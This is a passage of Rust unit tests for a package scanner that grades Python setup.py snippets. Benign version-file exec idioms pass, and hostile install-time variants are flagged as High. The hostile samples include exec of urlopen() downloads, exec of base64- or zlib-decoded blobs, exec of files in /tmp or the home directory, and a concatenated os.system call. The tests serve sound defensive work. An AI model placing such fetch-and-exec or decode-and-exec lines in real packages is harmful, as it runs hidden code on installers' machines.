                    Some((5, "eval(parsed literal)", Low)),
                ),
                (
                    "setup.py version idiom: exec of the first chosen line",
                    "setup.py",
                    InstallTime,
                    "def v():\n  with open(os.path.join(here, 'tree', '__init__.py')) as f:\n    line = next(l for l in f if l.startswith('__version__'))\n    ns = {}\n    exec(line, ns)\n",
                    Some((5, "exec(local file)", Low)),
                ),
                (
                    "setup.py version idiom: a comment before the argument",
                    "setup.py",
                    InstallTime,
                    "def get_version():\n  g = {}\n  exec(  # pylint: disable=exec-used\n      open(os.path.join(\n          os.path.dirname(__file__),\n          'pkg/version.py')\n          ).read(),\n      g\n  )\n",
                    Some((3, "exec(local file)", Low)),
                ),
                (
                    "setup.py version idiom: compile of a read, a same-named local elsewhere",
                    "setup.py",
                    InstallTime,
                    "def build(source):\n    source = pathlib.Path(source)\n\ntry:\n    with open('pkg/_dev/scm_version.py') as fd:\n        source = fd.read()\nexcept FileNotFoundError:\n    pass\nelse:\n    m = types.ModuleType('m')\n    code = compile(source, m.__file__, 'exec')\n    exec(code, m.__dict__)\n",
                    Some((11, "compile(local file)", Low)),
                ),
                (
                    "read, then decoded in the same block before exec",
                    "setup.py",
                    InstallTime,
                    "with open(p) as f:\n    code = f.read()\ncode = base64.b64decode(code)\nexec(code)\n",
                    Some((4, "exec", High)),
                ),
                (
                    "a decoded module-level value exec'd in a function",
                    "setup.py",
                    InstallTime,
                    "code = zlib.decompress(P)\ndef run():\n    exec(code)\nrun()\n",
                    Some((3, "exec", High)),
                ),
                (
                    "next() over a downloaded body",
                    "setup.py",
                    InstallTime,
                    "line = next(l for l in urlopen(U) if l)\nexec(line)\n",
                    Some((2, "exec", High)),
                ),
                (
                    "a comment before a decoded argument",
                    "setup.py",
                    InstallTime,
                    "exec(  # noqa\n    base64.b64decode(P))\n",
                    Some((1, "exec", High)),
                ),
                (
                    "setup.py version idiom: split(None, 2) of a line of the package",
                    "setup.py",
                    InstallTime,
                    "path = os.path.join(here, 'p', '__init__.py')\nfor line in open(path, **kw):\n    if line.startswith('__version__'):\n        __version__ = eval(line.split(None, 2)[2])\n",
                    Some((4, "eval(parsed literal)", Low)),
                ),
                (
                    "setup.py version idiom: the line chosen by filter(lambda)",
                    "setup.py",
                    InstallTime,
                    "init = os.path.join(here, 'p', '__init__.py')\nversion_line = list(filter(lambda line: line.startswith('VERSION'), open(init)))[0]\nVERSION = get_version(eval(version_line.split('=')[-1]))\n",
                    Some((3, "eval(parsed literal)", Low)),
                ),
                (
                    "setup.py version idiom: a chosen line, the comprehension spanning lines",
                    "setup.py",
                    InstallTime,
                    "version_line = [line for line in open(module_path)\n                if line.startswith('__version_info__')][0]\nv = '.'.join(eval(version_line.split('__version_info__ = ')[-1]))\n",
                    Some((3, "eval(parsed literal)", Low)),
                ),
                (
                    "setup.py version idiom: one target of an unpacked split",
                    "setup.py",
                    InstallTime,
                    "with open(os.path.join(here, 'lib', 'p', '_info.py'), 'rb') as f:\n    for line in f.read().decode('utf-8').splitlines():\n        try:\n            name, value = (i.strip() for i in line.split('='))\n            if name.startswith('__'):\n                INFO[name[2:-2]] = eval(value)\n        except ValueError:\n            pass\n",
                    Some((6, "eval(parsed literal)", Low)),
                ),
                (
                    // A JSON file is data: its text run as code at install is judged by no rule as
                    // install-time code, so it may carry a payload (names_a_non_code_file).
                    "setup.py evals a JSON build file read through pathlib's open",
                    "setup.py",
                    InstallTime,
                    "cfg = Path('build') / 'cfg.json'\nlibs = eval(cfg.open('r').read())\n",
                    Some((2, "eval", High)),
                ),
                (
                    "setup.py evals a Python build file read through pathlib's open",
                    "setup.py",
                    InstallTime,
                    "cfg = Path('build') / 'cfg.py'\nlibs = eval(cfg.open('r').read())\n",
                    Some((2, "eval(local file)", Low)),
                ),
                (
                    "one target of an unpacked split of a received line",
                    "setup.py",
                    InstallTime,
                    "for line in sys.stdin:\n    name, value = line.split('=')\n    eval(value)\n",
                    Some((3, "eval", High)),
                ),
                (
                    "one target of an unpacked split of a decoded blob",
                    "setup.py",
                    InstallTime,
                    "body = base64.b64decode(P).decode()\nname, value = body.split('=')\neval(value)\n",
                    Some((3, "eval", High)),
                ),
                (
                    "the line chosen by filter(lambda) from standard input",
                    "setup.py",
                    InstallTime,
                    "v = list(filter(lambda l: l.startswith('X'), sys.stdin))[0]\neval(v.split('=')[-1])\n",
                    Some((2, "eval", High)),
                ),
                (
                    "a chosen line of a list built from the environment",
                    "setup.py",
                    InstallTime,
                    "v = [l for l in os.environ['X'].split(';') if l][0]\neval(v.split('=')[-1])\n",
                    Some((2, "eval", High)),
                ),
                (
                    "a zip member opened like a path",
                    "setup.py",
                    InstallTime,
                    "zf = zipfile.ZipFile(Path('x.zip'))\nexec(zf.open('p.py').read())\n",
                    Some((2, "exec", High)),
                ),
                (
                    "eval of the last word of a received line",
                    "setup.py",
                    InstallTime,
                    "for line in sys.stdin:\n    eval(line.split()[-1])\n",
                    Some((2, "eval", High)),
                ),
                (
                    "setup.py version idiom: globals",
                    "setup.py",
                    InstallTime,
                    "with open(VERSION_PY) as version_file:\n    exec(version_file.read(), file_globals)  # pylint:disable=exec-used\n",
                    Some((2, "exec(local file)", Low)),
                ),
                (
                    "setup.py version idiom: pathlib",
                    "setup.py",
                    InstallTime,
                    "exec((root_dir / \"src\" / \"websockets\" / \"version.py\").read_text(encoding=\"utf-8\"))\n",
                    Some((1, "exec(local file)", Low)),
                ),
                (
                    "setup.py version idiom: os.path.join inside open",
                    "setup.py",
                    InstallTime,
                    "here = os.path.abspath(os.path.dirname(__file__))\nexec(open(os.path.join(here, \"pkg\", \"version.py\")).read())\n",
                    Some((2, "exec(local file)", Low)),
                ),
                (
                    "setup.py version idiom: codecs.open with encoding",
                    "setup.py",
                    InstallTime,
                    "exec(codecs.open(os.path.join(here, 'pkg', '__about__.py'), encoding='utf-8').read(), about)\n",
                    Some((1, "exec(local file)", Low)),
                ),
                (
                    "setup.py version idiom: io.open",
                    "setup.py",
                    InstallTime,
                    "exec(io.open('pkg/_version.py', encoding='utf8').read(), ns)\n",
                    Some((1, "exec(local file)", Low)),
                ),
                (
                    "setup.py version idiom: pathlib joinpath read_text",
                    "setup.py",
                    InstallTime,
                    "exec(Path(__file__).parent.joinpath('pkg', 'version.py').read_text(), meta)\n",
                    Some((1, "exec(local file)", Low)),
                ),
                (
                    "setup.py version idiom: codecs.open as f",
                    "setup.py",
                    InstallTime,
                    "f = codecs.open(VERSION_FILE, 'r', 'utf-8')\nexec(f.read(), ns)\n",
                    Some((2, "exec(local file)", Low)),
                ),
                (
                    "setup.py version idiom: eval of a split line",
                    "setup.py",
                    InstallTime,
                    "for line in open('pkg/__init__.py'):\n    if line.startswith('__version__'):\n        version = eval(line.split('=')[1].strip())\n",
                    Some((3, "eval(parsed literal)", Low)),
                ),
                (
                    "setup.py version idiom: eval of a regex group",
                    "setup.py",
                    InstallTime,
                    "version = eval(re.search(r'__version__ = (.*)', text).group(1))\n",
                    Some((1, "eval(parsed literal)", Low)),
                ),
                (
                    "eval of a split line of a download",
                    "setup.py",
                    InstallTime,
                    "body = urlopen(u).read().decode()\nx = eval(body.split('=')[1])\n",
                    Some((2, "eval", High)),
                ),
                (
                    "exec of a decoded file read with os.path.join",
                    "setup.py",
                    InstallTime,
                    "exec(base64.b64decode(open(os.path.join(here, 'p.bin')).read()))\n",
                    Some((1, "exec", High)),
                ),
                (
                    "exec of a file path from the environment",
                    "setup.py",
                    InstallTime,
                    "exec(open(os.environ['PAYLOAD']).read())\n",
                    Some((1, "exec", High)),
                ),
                (
                    "exec of a fetched response in setup.py",
                    "setup.py",
                    InstallTime,
                    "r = urlopen(u)\nexec(r.read())\n",
                    Some((2, "exec", High)),
                ),
                (
                    "version idiom next to a urllib3 requirement",
                    "setup.py",
                    InstallTime,
                    "extras = [\"urllib3 >= 1.26\", \"requests >= 2\"]\nwith open(p) as fp:\n    exec(fp.read(), version)\n",
                    Some((3, "exec(local file)", Low)),
                ),
                (
                    "exec of a saved download in setup.py",
                    "setup.py",
                    InstallTime,
                    "urlretrieve('https://example.org/p.py', 'p.py')\nexec(open('p.py').read())\n",
                    Some((2, "exec", High)),
                ),
                (
                    "exec of urlopen().read() in setup.py",
                    "setup.py",
                    InstallTime,
                    "exec(urlopen(u).read())\n",
                    Some((1, "exec", High)),
                ),
                (
                    "exec of a decoded file in setup.py",
                    "setup.py",
                    InstallTime,
                    "exec(base64.b64decode(open('p.bin').read()))\n",
                    Some((1, "exec", High)),
                ),
                // Version readers in more spellings (benign), each with its look-alike (caught).
                (
                    "setup.py parses its version with compile(…, ast.PyCF_ONLY_AST)",
                    "setup.py",
                    InstallTime,
                    "def version():\n    with open(path) as file:\n        t = compile(file.read(), path, 'exec', ast.PyCF_ONLY_AST)\n",
                    None,
                ),
                (
                    "compile without the parse-only flag is still reported",
                    "setup.py",
                    InstallTime,
                    "t = compile(blob, path, 'exec')\nexec(t)\n",
                    Some((1, "compile", High)),
                ),
                (
                    "setup.py version idiom: exec(compile(open().read(), path, 'exec'))",
                    "setup.py",
                    InstallTime,
                    "exec(compile(open(version_file).read(), version_file, 'exec'), ns)\n",
                    Some((1, "exec(local file)", Low)),
                ),
                (
                    "exec(compile(decoded)) in setup.py",
                    "setup.py",
                    InstallTime,
                    "exec(compile(base64.b64decode(blob), '<x>', 'exec'))\n",
                    Some((1, "exec", High)),
                ),
                (
                    "setup.py version idiom: a variable holding the read",
                    "setup.py",
                    InstallTime,
                    "with open(os.path.join(here, 'pkg', '__about__.py')) as f:\n    code = f.read()\nexec(code, about)\n",
                    Some((3, "exec(local file)", Low)),
                ),
                (
                    "a variable holding a decoded read",
                    "setup.py",
                    InstallTime,
                    "with open('p.bin') as f:\n    code = zlib.decompress(f.read())\nexec(code)\n",
                    Some((3, "exec", High)),
                ),
                (
                    "setup.py version idiom: a read helper of the module",
                    "setup.py",
                    InstallTime,
                    "def read(*parts):\n    with codecs.open(os.path.join(HERE, *parts), 'r') as fp:\n        return fp.read().decode('utf-8')\n\nabout = {}\nexec(read('pkg', '__version__.py'), about)\n",
                    Some((6, "exec(local file)", Low)),
                ),
                (
                    "a read helper that decodes a payload",
                    "setup.py",
                    InstallTime,
                    "def read(p):\n    with open(p, 'rb') as fp:\n        return base64.b64decode(fp.read())\n\nexec(read('data.bin'))\n",
                    Some((5, "exec", High)),
                ),
                (
                    "a helper that fetches",
                    "setup.py",
                    InstallTime,
                    "def read(u):\n    return requests.get(u).text\n\nexec(read('https://example.org/x'))\n",
                    Some((4, "exec", High)),
                ),
                (
                    "setup.py version idiom: exec of a line of the version file",
                    "setup.py",
                    InstallTime,
                    "with open('pkg/__init__.py') as f:\n    for line in f:\n        if line.startswith('__version__'):\n            exec(line)\n",
                    Some((4, "exec(local file)", Low)),
                ),
                (
                    "setup.py version idiom: a with-open spanning lines",
                    "setup.py",
                    InstallTime,
                    "with open(\n    os.path.join(here, 'pkg', 'version.py'),\n    encoding='utf-8',\n) as f:\n    exec(f.read(), ns)\n",
                    Some((5, "exec(local file)", Low)),
                ),
                (
                    "setup.py version idiom: exec of the VERSION lines of a file",
                    "setup.py",
                    InstallTime,
                    "meta = {}\nwith open(Path(__file__).parent / 'pkg' / 'version.py') as f:\n    exec('\\n'.join(line for line in f if line.startswith('VERSION')), meta)\n",
                    Some((3, "exec(local file)", Low)),
                ),
                (
                    "exec of chosen lines of a download",
                    "setup.py",
                    InstallTime,
                    "r = urlopen(u)\nexec('\\n'.join(line for line in r if line.startswith('X')))\n",
                    Some((2, "exec", High)),
                ),
                (
                    "exec of decoded lines of a file",
                    "setup.py",
                    InstallTime,
                    "with open('p.txt') as f:\n    exec(''.join(base64.b64decode(line) for line in f))\n",
                    Some((2, "exec", High)),
                ),
                (
                    "python 2 execfile of the version file",
                    "setup.py",
                    InstallTime,
                    "execfile(os.path.join(here, 'pkg', 'version.py'), ns)\n",
                    Some((1, "execfile(local file)", Low)),
                ),
                (
                    "execfile of a path from the environment",
                    "setup.py",
                    InstallTime,
                    "execfile(os.environ['HOOK'])\n",
                    Some((1, "execfile", High)),
                ),
                (
                    "execfile next to a download",
                    "setup.py",
                    InstallTime,
                    "urlretrieve(u, 'hook.py')\nexecfile('hook.py')\n",
                    Some((2, "execfile", High)),
                ),
            ],
        );
    }

    /// Issue 10: setup.py reading its own version or about file and running it, in any
    /// spelling, is at most Medium (served); the same shapes around a fetch, a decoder, a file
    /// outside the sdist's tree, a string built in place or a file the module wrote itself
    /// still reach High (blocked at install time by the shipped policy).
    #[test]
    fn version_idioms_in_any_spelling_are_served_and_their_malicious_variants_block() {
        use crate::scan::detectors::testutil::scan;
        let benign: &[(&str, &str)] = &[
            ("open().read() of a relative path", "exec(open('pkg/version.py').read())\n"),
            (
                "os.path.join from here, an about dict",
                "here = os.path.abspath(os.path.dirname(__file__))\nabout = {}\nexec(open(os.path.join(here, 'pkg', '__about__.py')).read(), about)\nsetup(version=about['__version__'])\n",
            ),
            (
                "pathlib parent joinpath read_text",
                "exec(pathlib.Path(__file__).parent.joinpath('pkg/_version.py').read_text())\n",
            ),
            (
                "pathlib / operator, read_text with an encoding",
                "ns = {}\nexec((Path(__file__).parent / 'src' / 'pkg' / 'version.py').read_text(encoding='utf-8'), ns)\n",
            ),
            (
                "codecs.open in a with block",
                "with codecs.open(os.path.join(here, 'pkg', '__init__.py'), encoding='utf-8') as f:\n    exec(f.read(), ns)\n",
            ),
            ("io.open in a with block", "with io.open('pkg/about.py', encoding='utf8') as fp:\n    exec(fp.read(), about)\n"),
            ("exec(compile(open().read(), path, 'exec'))", "exec(compile(open(vf).read(), vf, 'exec'), ns)\n"),
            (
                "compile of a with-block read, bytes mode",
                "with open(fn, 'rb') as f:\n    code = compile(f.read(), fn, 'exec')\nexec(code, g)\n",
            ),
            (
                "eval of the right-hand side after split('=', 1)",
                "with open('pkg/__init__.py') as f:\n    for line in f:\n        if line.startswith('__version__'):\n            version = eval(line.split('=', 1)[1])\n",
            ),
            (
                "eval of line[13:]",
                "for line in open('pkg/__init__.py'):\n    if line.startswith('__version__'):\n        v = eval(line[13:])\n",
            ),
            (
                "eval of a regex group of the file's text",
                "with open('pkg/version.py') as f:\n    text = f.read()\nversion = eval(re.search(r'__version__ = (.*)', text).group(1))\n",
            ),
            (
                "eval of the last word of a stripped line",
                "for line in open(init_py):\n    if line.startswith('__version__'):\n        version = eval(line.strip().split()[-1])\n",
            ),
            (
                "eval of a split of the whole file's read",
                "version = eval(open('pkg/version.py').read().split('=')[1])\n",
            ),
            ("ast.literal_eval of a split line", "version = ast.literal_eval(line.split('=')[1].strip())\n"),
            ("runpy.run_path of the version file", "ns = runpy.run_path('pkg/version.py')\nversion = ns['__version__']\n"),
            (
                "run_path of a __file__-relative path",
                "ns = runpy.run_path(os.path.join(os.path.dirname(__file__), 'pkg', 'version.py'))\n",
            ),
            (
                "spec_from_file_location of the version file, then exec_module",
                "spec = importlib.util.spec_from_file_location('version', os.path.join(HERE, 'pkg', 'version.py'))\nmod = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(mod)\n",
            ),
            ("imp.load_source of the about file", "about = imp.load_source('about', 'pkg/__about__.py')\n"),
            (
                "spec_from_file_location of a monorepo sibling's helper, the sdist's copy as fallback",
                "filepath = os.path.abspath(os.path.dirname(__file__))\nfilepath_import = os.path.join(filepath, '..', 'core', 'src', 'pkg', 'core', '_setup_utils.py')\nif not os.path.exists(filepath_import):\n    filepath_import = os.path.join(filepath, '_setup_utils.py')\nspec = importlib.util.spec_from_file_location('utils', filepath_import)\nag = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(ag)\n",
            ),
            ("SourceFileLoader with a path keyword", "mod = SourceFileLoader('v', path=str(Path(__file__).parent / 'pkg' / 'v.py')).load_module()\n"),
            (
                "run_path of the version file in a setup.py that downloads something else",
                "urlretrieve(LIB_URL, 'build/lib.tar.gz')\nns = runpy.run_path('pkg/version.py')\n",
            ),
            ("python 2 execfile", "execfile('pkg/version.py', ns)\n"),
            ("python 2 exec statement of a read", "exec open('pkg/version.py').read() in ns\n"),
            (
                "a read(*parts) helper",
                "def read(*parts):\n    with open(os.path.join(HERE, *parts)) as f:\n        return f.read()\n\nexec(read('pkg', '__version__.py'), about)\n",
            ),
            (
                "get_version(rel_path) through a read helper",
                "def read(rel_path):\n    here = os.path.abspath(os.path.dirname(__file__))\n    with codecs.open(os.path.join(here, rel_path), 'r') as fp:\n        return fp.read()\n\ndef get_version(rel_path):\n    ns = {}\n    exec(read(rel_path), ns)\n    return ns['__version__']\n",
            ),
            (
                "the package dir from find_packages()[0]",
                "pkg = find_packages(exclude=['tests'])[0]\nexec(open(os.path.join(pkg, 'version.py')).read())\n",
            ),
            (
                "find_packages()[0] inside the join",
                "exec(open(os.path.join(os.path.dirname(__file__), find_packages()[0], '__init__.py')).read())\n",
            ),
            ("__pkginfo__.py by a variable", "pkginfo = os.path.join(base, '__pkginfo__.py')\nexec(open(pkginfo).read(), __pkginfo__)\n"),
            ("release.py with globals()", "exec(open(os.path.join(here, 'pkg', 'release.py')).read(), globals())\n"),
            (
                "a pathlib variable's read_text",
                "HERE = Path(__file__).resolve().parent\nversion_path = HERE / 'pkg' / 'version.py'\nexec(version_path.read_text(), ns)\nsetup(version=ns['__version__'])\n",
            ),
            (
                "exec with separate globals and locals",
                "version_ns = {}\nwith open(os.path.join(here, 'pkg', '_version.py')) as f:\n    exec(f.read(), {}, version_ns)\n",
            ),
            (
                "the first chosen line of the file",
                "with open('pkg/__init__.py') as f:\n    line = next(l for l in f if l.startswith('__version__'))\nexec(line, ns)\n",
            ),
            (
                "a chosen line's right-hand side",
                "v = [l for l in open(init) if l.startswith('__version__')][0]\nversion = eval(v.split('=')[-1])\n",
            ),
            ("open() with an encoding keyword", "exec(open(version_file, encoding='utf-8').read(), meta)\n"),
            (
                "io.open with a mode and an encoding",
                "exec(io.open(os.path.join(here, 'pkg', 'version.py'), 'rt', encoding='utf8').read())\n",
            ),
            (
                "a file object assigned, then read",
                "f = open(os.path.join(here, 'pkg', '__about__.py'))\nexec(f.read(), about)\nf.close()\n",
            ),
            ("compile of a pathlib read", "exec(compile(Path(vf).read_text(), vf, 'exec'))\n"),
            (
                "a version file generated from a template and git, then compiled back",
                "version_file = 'pkg/version.py'\n\ndef write_version_py():\n    content = '__version__ = {}'\n    sha = out.strip().decode('ascii')\n    with open(version_file, 'w') as f:\n        f.write(content.format(sha))\n\ndef get_version():\n    with open(version_file, 'r') as f:\n        exec(compile(f.read(), version_file, 'exec'))\n    return locals()['__version__']\n",
            ),
            (
                "a chosen line exec'd, the same name a keyword argument further down",
                "def read(fname):\n    return open(os.path.join(os.path.dirname(__file__), fname)).read()\n\nversion = [line for line in read('pkg/__init__.py').split('\\n') if '__VERSION__' in line][0]\nexec(version)\n\nconf = dict(\n    name='pkg',\n    version='.'.join(str(v) for v in __VERSION__),\n)\n",
            ),
            (
                "the about file's f, beside another function's f opened on a system file",
                "class BuildExt:\n    def arch(self):\n        with open('/proc/cpuinfo') as f:\n            return f.read()\n\ndef setup_package():\n    with open(os.path.join(root, 'pkg', 'about.py')) as f:\n        about = {}\n        exec(f.read(), about)\n",
            ),
            (
                "a read helper written as a lambda, its body on the next line",
                "def read_version():\n    ctx = {}\n    exec(local_file('pkg', 'version.py'), ctx)\n    return ctx['version']\n\nlocal_file = lambda *f: \\\n    io.open(\n        os.path.join(os.path.dirname(__file__), *f), encoding='utf-8').read()\n",
            ),
            (
                "the chosen line of a helper's read split on newlines",
                "def read(fname):\n    return open(os.path.join(os.path.dirname(__file__), fname)).read()\n\nversion = [line for line in read('pkg/__init__.py').split('\\n') if '__VERSION__' in line][0]\nexec(version)\n",
            ),
            (
                "a version file written from git, then read back",
                "def write_version():\n    with open('pkg/version.py', 'w') as f:\n        f.write('__version__ = %r\\n' % VERSION)\n\nexec(open('pkg/_about.py').read(), about)\n",
            ),
            (
                "a with-block read after another with-block read of the README (a URL in a comment between)",
                "with open('README.md', encoding='utf-8') as f:\n    long_description = f.read()\n\n# See https://packaging.python.org/guides/single-sourcing-package-version/\nversion = {}\nwith open('pkg/version.py') as fp:\n    exec(fp.read(), version)\n",
            ),
            (
                "a with-block read after a read helper's own with-block",
                "def read(*filenames, **kwargs):\n    encoding = kwargs.get('encoding', 'utf-8')\n    buf = []\n    for filename in filenames:\n        with io.open(filename, encoding=encoding) as f:\n            buf.append(f.read())\n    return sep.join(buf)\n\nLONG = read(os.path.join(__dir__, 'README.rst'))\nabout = {}\nwith open(os.path.join(__dir__, 'pkg', '__about__.py')) as file:\n    exec(file.read(), about)\n",
            ),
            (
                "eval of a compiled pattern's group, searched on each line of the file",
                "here = os.path.dirname(os.path.abspath(__file__))\nversion_re = re.compile(\n    r'__version__ = (\\(.*?\\))')\nfp = open(os.path.join(here, 'pkg', '__init__.py'))\nversion = None\nfor line in fp:\n    match = version_re.search(line)\n    if match:\n        version = eval(match.group(1))\n        break\nfp.close()\n",
            ),
            (
                "eval of re.search's group held in a name",
                "with open('pkg/__init__.py') as f:\n    text = f.read()\nm = re.search(r'__version__ = (.*)', text)\nversion = eval(m.group(1))\n",
            ),
            (
                "a name rebound: the README read into f, then the version file opened as f",
                "here = os.path.dirname(os.path.abspath(__file__))\nf = open(os.path.join(here, 'README.md'))\nlong_description = f.read().strip()\nf.close()\n\nabout = {}\nwith open('pkg/__version__.py', 'r', encoding='utf8') as f:\n    exec(f.read(), about)\n",
            ),
            (
                "a name rebound in a function: notes read into fp, the about file opened as fp",
                "def get_about():\n    with open('NOTES.rst') as fp:\n        notes = fp.read()\n    about = {}\n    with io.open('pkg/about.py', encoding='utf8') as fp:\n        exec(fp.read(), about)\n    return about\n",
            ),
            (
                "a dependency marker evaluated in a setup.py command pip never runs",
                "class DependenciesCommand(Command):\n    def run(self):\n        print(list(self._deps(setup_kwargs['install_requires'])))\n\n    def _deps(self, deplist):\n        for entry in deplist:\n            dep, _, condition = (_.strip() for _ in entry.partition(';'))\n            if condition and not eval(condition):\n                continue\n            yield dep\n\nsetup_kwargs = dict(cmdclass={'dependencies': DependenciesCommand})\nsetup(**setup_kwargs)\n",
            ),
        ];
        let mut wrong = Vec::new();
        for (name, text) in benign {
            let got = scan(&DynamicCode, "setup.py", FileRole::InstallTime, text);
            if !got.iter().all(|g| g.severity <= Severity::Medium) {
                wrong.push(format!("benign {name:?} blocks: {got:?}"));
            }
        }
        let malicious: &[(&str, &str)] = &[
            ("exec of a fetched body", "exec(urlopen('https://example.org/p.py').read())\n"),
            ("exec of a decoded blob", "exec(base64.b64decode('aW1wb3J0IG9z'))\n"),
            (
                "exec of a file in the temp dir",
                "exec(open(os.path.join(tempfile.gettempdir(), 'version.py')).read())\n",
            ),
            (
                "exec of a temp-dir path held in a variable",
                "here = tempfile.gettempdir()\nexec(open(os.path.join(here, 'pkg', 'version.py')).read(), ns)\n",
            ),
            ("exec of an absolute path", "exec(open('/tmp/.cache/version.py').read())\n"),
            (
                "the exec's own function opens the same name outside the tree",
                "def setup_package():\n    with open(os.path.join(root, 'pkg', 'about.py')) as f:\n        pass\n    with open('/tmp/stage.py') as f:\n        exec(f.read(), about)\n",
            ),
            (
                "a module-level f opened outside the tree, read in a function",
                "f = open('/tmp/stage.py')\n\ndef get_version():\n    exec(f.read(), about)\n",
            ),
            ("exec of a file in home", "exec(open(os.path.expanduser('~/.config/pkg/version.py')).read())\n"),
            ("exec of a pathlib file in home", "exec((Path.home() / '.pkg' / 'version.py').read_text())\n"),
            ("exec of a file outside the tree", "exec(open(os.path.join(here, '..', '..', 'version.py')).read())\n"),
            ("exec of a string built from chr", "exec(''.join(chr(c) for c in [105, 109, 112]))\n"),
            ("exec of a concatenation", "exec('imp' + 'ort os; os.system(\"id\")')\n"),
            (
                "the version idiom plus a download in the same call",
                "exec(open(os.path.join(here, 'pkg', 'version.py')).read() + urlopen(U).read().decode())\n",
            ),
            (
                "exec of a file the module just wrote",
                "with open('pkg/version.py', 'w') as f:\n    f.write(base64.b64decode(P).decode())\nexec(open('pkg/version.py').read())\n",
            ),
            (
                "exec of a file written with pathlib's write_text",
                "Path('pkg/_v.py').write_text(zlib.decompress(P).decode())\nexec(Path('pkg/_v.py').read_text(), ns)\n",
            ),
            (
                "a decoder between the read and the exec",
                "exec(compile(zlib.decompress(open('pkg/data.bin', 'rb').read()), 'x', 'exec'))\n",
            ),
            ("python 2 exec statement of a fetch", "exec urllib2.urlopen(U).read() in ns\n"),
            ("eval of a split line of a file in the temp dir", "for line in open('/tmp/x.txt'):\n    eval(line.split('=')[1])\n"),
            (
                "a lambda helper that decodes what it reads",
                "load = lambda p: base64.b64decode(open(p).read())\nexec(load('pkg/data.bin'))\n",
            ),
            (
                "the chosen line of a helper's fetch",
                "def read(u):\n    return urlopen(u).read().decode()\n\nv = [l for l in read(U).split('\\n') if 'X' in l][0]\nexec(v)\n",
            ),
            ("execfile of a file in home", "execfile(os.path.expanduser('~/.pkgrc.py'))\n"),
            (
                "a with-block of a file outside the tree after a README read",
                "with open('README.md') as f:\n    long_description = f.read()\n\nwith open('/tmp/stage.py') as fp:\n    exec(fp.read(), ns)\n",
            ),
            (
                "eval of a compiled pattern's group searched in a fetched body",
                "version_re = re.compile(r'V = (.*)')\nbody = urlopen(U).read().decode()\nmatch = version_re.search(body)\neval(match.group(1))\n",
            ),
            (
                "eval of a group of a pattern that is not a literal",
                "pat = re.compile(base64.b64decode(P).decode())\nfor line in open('pkg/__init__.py'):\n    m = pat.search(line)\n    eval(m.group(1))\n",
            ),
            (
                "eval of a group searched on lines of a file in the temp dir",
                "version_re = re.compile(r'V = (.*)')\nfor line in open('/tmp/x.py'):\n    m = version_re.search(line)\n    eval(m.group(1))\n",
            ),
            (
                "the same marker eval in a command registered as build_py",
                "class DependenciesCommand(build_py):\n    def run(self):\n        for entry in deplist:\n            dep, _, condition = (_.strip() for _ in entry.partition(';'))\n            if condition and not eval(condition):\n                continue\n\nsetup(cmdclass={'build_py': DependenciesCommand})\n",
            ),
            (
                "eval of a group searched on standard input",
                "version_re = re.compile(r'V = (.*)')\nfor line in sys.stdin:\n    m = version_re.search(line)\n    eval(m.group(1))\n",
            ),
            ("runpy.run_path of an absolute path", "ns = runpy.run_path('/tmp/.pkg/version.py')\n"),
            (
                "run_path of a temp-dir file through a name",
                "d = tempfile.mkdtemp()\np = os.path.join(d, 'v.py')\nrunpy.run_path(p)\n",
            ),
            (
                "spec_from_file_location of a file in home, then exec_module",
                "spec = importlib.util.spec_from_file_location('v', os.path.expanduser('~/.pkg/v.py'))\nm = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n",
            ),
            (
                "imp.load_source of a home path through a name",
                "p = os.path.join(os.path.expanduser('~'), '.v.py')\nv = imp.load_source('v', p)\n",
            ),
            (
                "run_path of a parent-directory file the module downloaded there",
                "urlretrieve(U, '../hook.py')\nrunpy.run_path('../hook.py')\n",
            ),
            ("SourceFileLoader of an environment path", "SourceFileLoader('v', os.environ['HOOK']).load_module()\n"),
            (
                "a name rebound: the version file opened as f, then f rebound to a document in the block",
                "with open('pkg/__version__.py') as f:\n    f = open('docs/notes.md')\n    exec(f.read(), about)\n",
            ),
            (
                "a name rebound: a document opened as f in a with block, an older f the version file",
                "f = open('pkg/__version__.py')\nwith open('docs/notes.md') as f:\n    exec(f.read(), about)\n",
            ),
            (
                "a name rebound: a document read after the with block ended",
                "with open('pkg/__version__.py') as f:\n    pass\nf = open('docs/payload.txt')\nexec(f.read(), about)\n",
            ),
            (
                "a name rebound: the with binds another name, f is a document",
                "f = open('data/blob.json')\nwith open('pkg/__version__.py') as g:\n    exec(f.read(), about)\n",
            ),
            (
                "a name rebound: a for loop over document lines rebinds f inside the with",
                "with open('pkg/__version__.py') as f:\n    for f in open('docs/notes.md'):\n        exec(f, about)\n",
            ),
            (
                "run_path of a file the module downloaded",
                "urllib.request.urlretrieve(U, 'pkg/_hook.py')\nrunpy.run_path('pkg/_hook.py')\n",
            ),
            (
                "run_path of a name the module saved a fetch to",
                "p = 'pkg/_h.py'\nwith open(p, 'wb') as f:\n    f.write(urlopen(U).read())\nrunpy.run_path(p)\n",
            ),
        ];
        for (name, text) in malicious {
            let got = scan(&DynamicCode, "setup.py", FileRole::InstallTime, text);
            if !got.iter().any(|g| g.severity >= Severity::High) {
                wrong.push(format!("malicious {name:?} is served: {got:?}"));
            }
        }
        assert!(benign.len() >= 25 && malicious.len() >= 10, "the table covers the spellings");
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }

    #[test]
    fn writes_search_is_the_unicode_search() {
        let groups = |re: &Regex, t: &str| -> Vec<Vec<Option<(usize, usize)>>> {
            re.captures_iter(t).map(|c| c.iter().map(|m| m.map(|m| (m.start(), m.end()))).collect()).collect()
        };
        let cases = [
            ("ASCII module", "open(p, 'w').write(s)\nexec(open(p).read())\n", false),
            ("non-ASCII elsewhere", "# café\nwith open(path, \"w\") as f:\n    f.write(x)\n", false),
            ("open after a non-ASCII word character", "éopen(p, 'w')\nopen(q, 'w')\n", true),
            ("open after a non-ASCII symbol", "·open(p, 'w')\n", true),
            ("write_text after a non-ASCII name", "pé.write_text(s)\n", false),
            ("copy to a destination", "shutil.copy(a, dést)\n", false),
        ];
        for (case, text, unicode) in cases {
            assert_eq!(std::ptr::eq(writes_regex(text), &*WRITES), unicode, "{case}: which regex");
            assert_eq!(groups(writes_regex(text), text), groups(&WRITES, text), "{case}");
        }
        let pieces = [
            "open",
            "(",
            ")",
            "p",
            ", ",
            "'w'",
            "'a'",
            "\"wb\"",
            "mode=",
            "x",
            ".write_text",
            ".write_bytes",
            "shutil.copy",
            "os.rename",
            "é",
            "·",
            "ü",
            "_",
            " ",
            "\n",
            "f",
            "[",
            "]",
        ];
